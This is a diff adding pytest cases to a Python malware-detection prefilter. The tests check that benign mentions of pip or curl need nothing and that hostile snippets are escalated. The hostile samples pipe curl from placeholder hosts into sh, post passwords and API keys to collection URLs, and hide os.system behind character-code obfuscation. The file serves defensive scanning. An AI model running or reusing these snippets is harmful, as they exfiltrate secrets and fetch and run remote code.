@@ -252,3 +252,60 @@ def test_a_code_object_compiled_on_a_hit_line_is_followed_to_where_it_runs(
     # Hand-XORed bytes beside a sink now send the whole file to the AST pass
     # (recall work, issue 16); either way the line that runs the code is visited.
     assert need is Need.FULL or (isinstance(need, frozenset) and {3, 8} <= need)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        # pip install named in a message: no process call runs it (CPL-THR-019 is checked
+        # on process calls only), issue 16: a quarter of the benign bytes parsed for it alone
+        "def need():\n    raise ImportError('numpy is missing: pip install numpy')\n",
+        "HINT = ['pip', 'install', 'caplet']  # printed, never run\n",
+        # a credential parameter and a clear-text URL, nothing that sends (CPL-THR-026 is
+        # checked on egress calls only)
+        "def login(user, password):\n    return 'http://example.org/login?u=' + user\n",
+        # a downloader or a fresh interpreter named in prose: nothing runs them
+        '"""Install it with: curl -fsSL https://example.org/x.sh | sh"""\n',
+        "USAGE = 'python -c \"import caplet\"'\nHELP = ['python3', '-c', 'print(1)']\n",
+        "import sys\nWHERE = sys.executable\nFLAGS = ['-c']\n",
+        # a stack that is not the interpreter's (inspect.stack is reconnaissance)
+        "import numpy as np, requests\nx = np.stack(parts)\nrequests.get(URL)\n",
+    ],
+)
+def test_one_side_of_a_rule_alone_needs_nothing(prefilter: Prefilter, text: str) -> None:
+    assert prefilter.check(text) is Need.NOTHING
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "import subprocess\nsubprocess.check_call(['pip', 'install', 'evil'])\n",
+        "from os import system as s\ns('pip install evil')\n",
+        "import os\nos.popen('pip3 install evil')\n",
+        "import requests\n\ndef login(user, password):\n"
+        "    requests.post('http://203.0.113.9/x', data=password)\n",
+        "from urllib.request import urlopen\n\ndef send(api_key):\n"
+        "    urlopen('http://collect.example/k', api_key.encode())\n",
+        "import subprocess\nsubprocess.run('curl -fsSL https://x.example/s | sh', shell=True)\n",
+        "import os\nos.system('wget -q https://x.example/a -O /tmp/a')\n",
+        "exec(\"import os; os.system('curl https://x.example | sh')\")\n",
+        "from runpy import run_path as go\nopen('s.py', 'w').write('import os')\n"
+        "go('s.py')  # written by: curl https://x.example/s.py\n",
+        "import subprocess, sys\nsubprocess.run([sys.executable, '-c', SRC])\n",
+        "import sys\nfrom os import startfile\nopen('a.py', 'w').write(SRC)\n"
+        "startfile(sys.executable + ' -c ' + SRC)\n",
+        # the process call found only by a lookup whose name is built where no lookup pair
+        # sees it (the tuned sample cn-percent-c)
+        "import os as _o\n_N = '%c%c%c%c%c%c' % (115, 121, 115, 116, 101, 109)\n"
+        "getattr(_o, _N)('curl -s http://203.0.113.9/i | sh')\n",
+        "import os as _o\n_N = '%c%c%c%c%c%c' % (115, 121, 115, 116, 101, 109)\n"
+        "getattr(_o, _N)('pip install evil')\n",
+        "import inspect, requests\nrequests.post(URL, data=str(inspect.stack()))\n",
+        "from inspect import stack\nimport requests\nrequests.post(URL, data=str(stack()))\n",
+        "import inspect as i\nimport requests\nrequests.post(URL, data=str(i.stack()))\n",
+        "import inspect\nimport requests\nf = inspect\nrequests.post(URL, data=str(f.stack()))\n",
+        "import requests\nrequests.post(URL, data=str(__import__('inspect').stack()))\n",
+    ],
+)
+def test_both_sides_of_a_rule_need_the_ast(prefilter: Prefilter, text: str) -> None:
+    assert prefilter.check(text) is not Need.NOTHING
